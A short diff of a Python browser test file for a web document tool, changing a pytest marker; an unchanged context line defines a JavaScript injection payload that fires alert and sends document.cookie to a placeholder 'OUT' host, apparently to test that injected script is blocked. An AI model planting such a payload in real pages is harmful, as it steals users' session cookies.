@@ -25,7 +25,7 @@ from workbench.web.document.body import Body, Look
 MakeCampaign = Callable[..., Path]
 Visit = Callable[..., Page]
 
-pytestmark = pytest.mark.browser
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
 RUN = "top.hacked=window.hacked=1;alert(1);console.log(1);new Image().src='OUT/ran?'+document.cookie"
 
